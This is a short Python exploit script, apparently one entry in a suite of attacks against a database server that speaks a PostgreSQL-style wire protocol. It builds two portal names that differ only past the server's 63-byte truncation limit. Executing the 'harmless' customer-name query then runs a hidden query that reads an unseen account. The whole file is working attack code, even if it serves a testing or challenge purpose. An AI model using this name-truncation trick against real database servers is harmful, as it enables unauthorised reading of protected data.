"""Gives a portal a name that the server shortens to that of a harmless one."""

from attacks.frames import SYNC, ask, bind, close, execute, parse
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        one, other = b"n" * 63 + b"1", b"n" * 63 + b"2"
        harmless = parse(b"SELECT name FROM customer", b"a") + bind(b"a", one)
        hidden = parse(b"SELECT account_unseen(1)", b"b") + close(b"P", other) + bind(b"b", other)
        return ask(client, harmless, hidden, execute(one), SYNC)
